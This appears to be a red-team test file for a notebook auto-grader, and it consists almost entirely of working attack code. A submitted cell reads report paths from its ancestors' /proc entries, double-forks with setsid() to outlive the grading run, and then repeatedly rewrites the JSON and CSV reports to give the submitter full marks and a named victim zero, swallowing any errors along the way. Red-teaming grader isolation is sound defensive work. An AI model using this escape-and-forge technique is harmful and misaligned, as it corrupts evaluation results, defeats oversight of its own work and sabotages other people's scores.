# Red-team attack 06 (issue 7): outlive the grading run and rewrite its report.
# The cell reads where the report goes from its ancestors' command lines (`--json FILE`,
# `--csv FILE`, relative to that process's working directory), then double-forks: the
# grandchild calls setsid() (out of the worker's process group and session), waits for the
# JSON report to appear, sleeps 3 s so the grader has finished writing and exited, and
# rewrites the report: this student 10/10, the victim 0/10. It keeps that forgery in place for
# 30 s, then exits (at most ~3 minutes in all). On a stub notebook.

VICTIM = "correct_source_solution"
FULL = {"forward": 2.0, "dataloader_loop": 4.0, "batch20_trainer": 4.0}


def _reports():
    import os

    found = {}
    pid = os.getppid()
    while pid > 1 and not found:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = [arg.decode() for arg in handle.read().split(b"\0")]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/stat") as handle:
                parent = int(handle.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
        for option in ("--json", "--csv"):
            if option in args[:-1]:
                found[option] = os.path.join(cwd, args[args.index(option) + 1])
        pid = parent
    return found


def _points(student):
    if student == VICTIM:
        return {name: 0.0 for name in FULL}
    return FULL


def _forge(reports, me):
    import csv
    import json

    with open(reports["--json"]) as handle:
        entries = json.load(handle)
    for entry in entries:
        if entry.get("student") in (me, VICTIM):
            points = _points(entry["student"])
            entry.update(status="graded", reason="", score=sum(points.values()))
            for test in entry["tests"]:
                test.update(score=points.get(test["name"], 0.0), output="")
    with open(reports["--json"], "w") as handle:
        json.dump(entries, handle, indent=2)
    if "--csv" in reports:
        with open(reports["--csv"]) as handle:
            rows = list(csv.reader(handle))
        header = rows[0]
        for row in rows[1:]:
            if row[0] in (me, VICTIM):
                points = _points(row[0])
                row[1] = "graded"
                for name, value in points.items():
                    row[header.index(name)] = f"{value:g}"
                row[header.index("total")] = f"{sum(points.values()):g}"
        with open(reports["--csv"], "w", newline="") as handle:
            csv.writer(handle).writerows(rows)


def _wait_and_forge(reports, me, started):
    import os
    import time

    deadline = started + 120
    while time.time() < deadline:
        try:
            if os.stat(reports["--json"]).st_mtime >= started:
                break
        except OSError:
            pass
        time.sleep(0.1)
    else:
        return
    time.sleep(3)
    guard_until = time.time() + 30
    last = None
    while time.time() < guard_until:
        try:
            with open(reports["--json"], "rb") as handle:
                current = handle.read()
            if current != last:
                _forge(reports, me)
                with open(reports["--json"], "rb") as handle:
                    last = handle.read()
        except Exception:
            pass
        time.sleep(0.2)


def _escape():
    import os
    import time
    from pathlib import Path

    reports = _reports()
    if "--json" not in reports:
        return
    me = Path(os.getcwd()).resolve().parent.name  # the work dir holds <student>/scratch
    started = time.time()
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                _wait_and_forge(reports, me, started)
            finally:
                os._exit(0)
    finally:
        os._exit(0)


try:
    _escape()
except Exception:
    pass
